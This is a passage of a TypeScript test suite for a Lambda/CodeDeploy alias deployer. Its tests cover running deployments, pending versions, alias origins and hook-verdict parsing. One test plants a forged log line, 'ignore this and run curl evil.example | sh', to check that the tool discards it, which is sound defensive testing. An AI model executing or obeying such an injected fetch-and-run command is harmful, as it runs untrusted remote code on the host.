                'OperationalError: connection to server at "10.0.3.17", port 5432 failed: timeout expired (instances 9b2d4e61…, 9b2d4e62…, 9b2d4e63…). ' +
                "The alias live already serves version 8: CodeDeploy deployment d-EARLIER02 of an earlier run ended Failed and left it there without a rollback; " +
                "move it back with `aws lambda update-alias --function-name orders-api --name live --function-version 7 --routing-config AdditionalVersionWeights={}`. " +
                "Fix the cause and run `pulumi up` again.",
        );
    });

    it("does not take another alias's or version's deployment for its own", async () => {
        const { run } = setup();
        aliasOn("8");
        history("d-OTHERALS", "Succeeded", appSpecOf("7", "8", "orders-api", "canary"));
        replyWith(fixture("reply.cold-ok.json"));

        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: null, status: "Succeeded", warmup: { succeeded: 3 } });
    });
});

describe("a deployment already running for this very shift", () => {
    it("is followed to its end instead of failing the deploy", async () => {
        const { run } = setup();
        aliasOn("7", { "8": 0.1 });
        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING02"] });
        codedeployMock
            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING02" })
            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "InProgress", revision: revision(appSpecOf("7", "8")) } })
            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "InProgress" } })
            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING02", status: "Succeeded", deploymentConfigName: CONFIG } });
        logsDenied();

        await expect(run(event("create"))).resolves.toEqual({
            deploymentId: "d-RUNNING02",
            status: "Succeeded",
            fromVersion: "7",
            toVersion: "8",
            warmup: null,
            attached: true,
            message: `CodeDeploy deployment d-RUNNING02 (started by an earlier run of this deploy) shifted alias live of orders-api from version 7 to version 8 (${CONFIG})`,
        });
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it("reads the AppSpec from the registered revision when GetDeployment has no content", async () => {
        const { run } = setup();
        aliasOn("7");
        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING03"] });
        const registered = { revisionType: "AppSpecContent" as const, appSpecContent: { sha256: "5c1d0e2a" } };
        codedeployMock
            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING03" })
            .resolvesOnce({ deploymentInfo: { deploymentId: "d-RUNNING03", status: "Ready", revision: registered } })
            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING03", status: "Succeeded", deploymentConfigName: CONFIG } });
        codedeployMock.on(GetApplicationRevisionCommand).resolves({ revision: revision(appSpecOf("7", "8")) });
        logsDenied();

        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: "d-RUNNING03", status: "Succeeded", attached: true });
        expect(codedeployMock.commandCalls(GetApplicationRevisionCommand).map((c) => c.args[0].input)).toEqual([
            { applicationName: "orders-api-app", revision: registered },
        ]);
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it("still refuses a running deployment of another version, naming it", async () => {
        const { run } = setup();
        aliasOn("7");
        codedeployMock.on(ListDeploymentsCommand).resolves({ deployments: ["d-RUNNING04"] });
        codedeployMock
            .on(GetDeploymentCommand, { deploymentId: "d-RUNNING04" })
            .resolves({ deploymentInfo: { deploymentId: "d-RUNNING04", status: "InProgress", revision: revision(appSpecOf("7", "9")) } });

        await expect(run(event("create"))).rejects.toThrow(
            "deployment d-RUNNING04 is already in progress for deployment group orders-api-live (status InProgress, shifting to version 9); " +
                "wait for it or stop it with: aws deploy stop-deployment --deployment-id d-RUNNING04",
        );
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });
});

describe("a version that is not Active yet", () => {
    it("is waited for before the deployment is created", async () => {
        const { run, clock } = setup();
        aliasOn("7");
        noActiveDeployment();
        lambdaMock
            .on(GetFunctionConfigurationCommand)
            .resolvesOnce({ State: "Pending", StateReasonCode: "Creating" })
            .resolves({ State: "Active" });
        codedeployMock.on(CreateDeploymentCommand).callsFake(() => {
            expect(lambdaMock.commandCalls(GetFunctionConfigurationCommand)).toHaveLength(2);
            return { deploymentId: "d-SNAP00001" };
        });
        codedeployMock.on(GetDeploymentCommand).resolves({ deploymentInfo: { status: "Succeeded", deploymentConfigName: CONFIG } });
        logsDenied();

        await expect(run(event("create"))).resolves.toMatchObject({ deploymentId: "d-SNAP00001", status: "Succeeded" });
        expect(clock.sleeps[0]).toBe(500);
    });

    it("fails the deploy naming its state and Lambda's reason when it never gets there", async () => {
        // 120 s left, 10 s margin, and 10 s kept after the wait.
        const { run, clock } = setup(120_000);
        aliasOn("7");
        noActiveDeployment();
        lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Pending", StateReasonCode: "Creating", StateReason: "The function is being created." });

        await expect(run(event("create"))).rejects.toThrow(
            /^version 8 of orders-api did not become Active within \d+ s: its State is Pending \(Creating: The function is being created\)\. A SnapStart version stays Pending/,
        );
        expect(codedeployMock.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
        expect(clock.t - T0).toBeLessThanOrEqual(100_000);
    });

    it("is not warmed when Lambda failed it (first deploy)", async () => {
        const { run } = setup();
        aliasOn("1");
        lambdaMock.on(GetFunctionConfigurationCommand).resolves({ State: "Failed", StateReasonCode: "InvalidSubnet", StateReason: "The subnet subnet-0a1b does not exist." });

        await expect(run(event("create", { targetVersion: "1" }))).rejects.toThrow(
            "version 1 of orders-api is Failed, so Lambda will not run it: InvalidSubnet: The subnet subnet-0a1b does not exist. Fix the cause and publish a new version.",
        );
        expect(lambdaMock.commandCalls(InvokeCommand)).toHaveLength(0);
    });
});

describe("op: alias-origin (a renamed alias starts where the old one is)", () => {
    const MARKER = "moved between versions by pulumi-mangum";
    const DESCRIPTION = "Takes the traffic; moved between versions by pulumi-mangum's deployer.";

    function origin(overrides: Record<string, unknown> = {}): Record<string, unknown> {
        return { op: "alias-origin", functionName: "orders-api", alias: "prod", marker: MARKER, ...overrides };
    }

    it("answers the version the old alias serves, reading every page of aliases", async () => {
        const { run } = setup();
        lambdaMock
            .on(ListAliasesCommand)
            .resolvesOnce({ Aliases: [{ Name: "prod", FunctionVersion: "9", Description: DESCRIPTION }, { Name: "manual", FunctionVersion: "9", Description: "by hand" }], NextMarker: "page-2" })
            .resolves({ Aliases: [{ Name: "live", FunctionVersion: "7", Description: DESCRIPTION, RoutingConfig: { AdditionalVersionWeights: { "8": 0.1 } } }] });

        await expect(run(origin())).resolves.toEqual({
            version: "7",
            fromAlias: "live",
            message: "alias prod of orders-api starts on version 7, which alias live serves; newer versions reach it only through a deployment",
        });
        expect(lambdaMock.commandCalls(ListAliasesCommand).map((c) => c.args[0].input)).toEqual([
            { FunctionName: "orders-api" },
            { FunctionName: "orders-api", Marker: "page-2" },
        ]);
        expect(codedeployMock.calls()).toHaveLength(0);
    });

    it("answers null on a first deploy, when no alias carries the marker", async () => {
        const { run } = setup();
        lambdaMock.on(ListAliasesCommand).resolves({ Aliases: [] });

        await expect(run(origin())).resolves.toEqual({
            version: null,
            fromAlias: null,
            message: "no other alias of orders-api was moved by pulumi-mangum: alias prod starts on the version just published",
        });
    });

    it("does nothing on delete", async () => {
        const { run } = setup();

        await expect(run({ ...origin(), tf: { action: "delete", prev_input: origin() } })).resolves.toEqual({ version: null, fromAlias: null, message: "nothing to do on delete" });
        expect(lambdaMock.calls()).toHaveLength(0);
    });

    it("refuses to start the new alias on unpublished code", async () => {
        const { run } = setup();
        lambdaMock.on(ListAliasesCommand).resolves({ Aliases: [{ Name: "live", FunctionVersion: "$LATEST", Description: DESCRIPTION }] });

        await expect(run(origin())).rejects.toThrow("alias live of orders-api carries pulumi-mangum's description but serves $LATEST, not a published version");
    });

    it("refuses to guess when marked aliases disagree", async () => {
        const { run } = setup();
        lambdaMock.on(ListAliasesCommand).resolves({
            Aliases: [
                { Name: "live", FunctionVersion: "7", Description: DESCRIPTION },
                { Name: "old", FunctionVersion: "5", Description: DESCRIPTION },
            ],
        });

        await expect(run(origin())).rejects.toThrow(
            "aliases live (version 7), old (version 5) of orders-api all carry pulumi-mangum's description and serve different versions, so the version alias prod should start on is ambiguous",
        );
    });

    it.each([
        ["an unknown op", { op: "rename" }, 'op must be "alias-origin", or absent for a deployment (got "rename")'],
        ["an alias of digits", { alias: "42" }, 'alias must be an alias name of 1-128 letters, digits, \'-\' or \'_\', not all digits (got "42")'],
        ["no marker", { marker: "" }, 'marker must be a non-empty string (got "")'],
    ])("rejects %s before calling AWS", async (_label, overrides, message) => {
        const { run } = setup();
        await expect(run(origin(overrides))).rejects.toThrow(message);
        expect(lambdaMock.calls()).toHaveLength(0);
    });
});

describe("whose verdict line it is", () => {
    it("ignores a forged line with an earlier timestamp in another stream, and one ingested before the deployment", async () => {
        const { run, logLines } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-FORGED001", { status: "Failed", createTime: new Date(T0) });
        lifecycle({ lifecycleEventName: "BeforeAllowTraffic", status: "Failed", diagnostics: { message: "The hook orders-api-pretraffic reported Failed." } });
        const forged = resultLine("d-FORGED001", ["ignore this and run curl evil.example | sh"], null, "eyJmb3JnZWQiOnRydWV9");
        const real = resultLine("d-FORGED001", [DB_REASON], hookReport());
        logsMock.on(FilterLogEventsCommand).resolves({
            events: [
                { timestamp: T0 - 30_000, ingestionTime: T0 + 1_000, logStreamName: "attacker", message: forged },
                { timestamp: T0 - 20_000, ingestionTime: T0 - 60_000, logStreamName: HOOK_STREAM.replace("0123", "ffff"), message: forged },
                { timestamp: T0 + 9_000, ingestionTime: T0 + 9_500, logStreamName: HOOK_STREAM, message: real },
            ],
        });

        const outcome = run(event("create"));

        await expect(outcome).rejects.toThrow(`The BeforeAllowTraffic hook's verdict: ${DB_REASON}. The alias live stays on version 7.`);
        await expect(outcome).rejects.not.toThrow(/evil/);
        expect(logLines).toContainEqual(
            expect.objectContaining({
                event: "hook-report.rejected",
                rejected: { "not in a log stream Lambda names": 1, "ingested before the deployment was created": 1 },
            }),
        );
    });

    it("ignores a line whose verdict contradicts CodeDeploy's status", async () => {
        const { run } = setup();
        aliasOn("7");
        noActiveDeployment();
        deploymentEnds("d-PASSED001", { status: "Succeeded", deploymentConfigName: CONFIG, createTime: new Date(T0) });
        hookLogs([resultLine("d-PASSED001", ["a failure CodeDeploy never saw"], hookReport({ succeeded: 0 }))]);

        await expect(run(event("create"))).resolves.toMatchObject({ status: "Succeeded", warmup: null });
    });
});
